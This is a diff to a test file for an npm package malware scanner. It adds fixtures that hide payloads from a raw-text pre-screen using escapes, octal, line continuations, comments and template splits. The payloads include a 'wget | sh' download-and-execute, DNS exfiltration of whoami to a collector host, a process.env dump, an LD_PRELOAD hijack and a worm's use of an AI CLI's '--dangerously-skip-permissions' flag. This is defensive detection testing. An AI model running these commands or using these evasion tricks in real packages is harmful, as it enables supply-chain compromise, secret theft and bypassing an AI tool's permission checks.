@@ -1,6 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { scanTarball, severityRank, type ScanReport, type Severity } from '../../helper/src/scan/index.js';
-import { setPrescreen } from '../../helper/src/scan/js/prescreen.js';
 import { packTree, tempDir, type Tree } from './support.js';
 
 // Cases written here from the attack descriptions of issue 12, not copied from any rule set. Every payload is
@@ -12,17 +11,9 @@ beforeAll(async () => {
 afterAll(() => work.cleanup());
 
 let n = 0;
-/** Scans a package, and scans it again with the lexical pre-screen off: every case here must agree both ways. */
+/** Scans a package. */
 async function scan(manifest: Record<string, unknown>, files: Tree = {}): Promise<ScanReport> {
-  const tgz = await packTree(work.dir, `code-${n++}`, manifest, files);
-  const report = await scanTarball(tgz);
-  setPrescreen(false);
-  try {
-    expect(await scanTarball(tgz)).toEqual(report);
-  } finally {
-    setPrescreen(true);
-  }
-  return report;
+  return scanTarball(await packTree(work.dir, `code-${n++}`, manifest, files));
 }
 /** The worst severity a rule reached, or 'none'. */
 function worst(r: ScanReport, rule: string): Severity | 'none' {
@@ -211,8 +202,30 @@ describe('code analysis: 2025-2026 worms and compromises (kinds 11, 12)', () => 
   });
 });
 
-describe('code analysis: the lexical pre-screen lets through every file a finding can come from', () => {
-  // Each file below holds none of the atoms of the earlier pre-screen; each is flagged with the pre-screen on.
+describe('code analysis: every JavaScript file is parsed (no lexical pre-screen)', () => {
+  // Each file below spells its payload so that no atom of a raw-text pre-screen sees it: escapes other than
+  // \x/\u, line continuations, octal escapes, constant template expressions, comments between tokens (a
+  // reviewer's cases against scanner 5, whose pre-screen skipped every one of them).
+  const hidden: [string, string, string, string][] = [
+    ['an escaped letter in an import specifier', "import { spawn } from 'child_proc\\ess';\nspawn('node', ['payload.js'], { detached: true, stdio: 'ignore' }).unref();\n", 'code-silent-exec', 'high'],
+    ['an escaped letter in an AI CLI flag', "module.exports = '--danger\\ously-skip-permissions';\n", 'code-worm', 'critical'],
+    ['an octal escape in a sloppy script', "module.exports = '--\\144angerously-skip-permissions';\n", 'code-worm', 'critical'],
+    ['a line continuation in an AI CLI flag', "module.exports = '--danger\\\nously-skip-permissions';\n", 'code-worm', 'critical'],
+    ['a constant template expression splitting a flag', "module.exports = `--danger${''}ously-skip-permissions`;\n", 'code-worm', 'critical'],
+    ['a constant template expression splitting LD_PRELOAD', "module.exports = `LD_PRE${''}LOAD=/tmp/x.so`;\n", 'code-library-hijack', 'critical'],
+    ['a comment between process and .env', 'module.exports = JSON.stringify(process/**/.env);\n', 'code-exfiltration', 'high'],
+    ['a comment between process and [env]', "module.exports = JSON.stringify(process/**/['env']);\n", 'code-exfiltration', 'high'],
+    ['an escaped letter in a download piped to a shell', "module.exports = 'wg\\et -q -O- https://example.invalid/i | sh';\n", 'code-download-exec', 'high'],
+    ['an escaped letter in a command substitution', "module.exports = 'dig x.$(\\whoami).collector.example.invalid';\n", 'code-download-exec', 'critical'],
+  ];
+  for (const [name, code, rule, severity] of hidden) {
+    it(`${name} (at install)`, async () => {
+      const r = await atInstall(code);
+      const got = worst(r, rule);
+      expect(got === 'none' ? -1 : severityRank(got), r.findings.map((f) => `${f.severity} ${f.rule}`).join(', ')).toBeGreaterThanOrEqual(severityRank(severity as Severity));
+    });
+  }
+
   it('a module name built by concatenation', async () => {
     expect(worst(await onRequire("var m = require('child_' + 'process');\nm.spawn('/bin/sh', ['-c', 'id']);\n"), 'code-hidden-api')).toBe('high');
   });
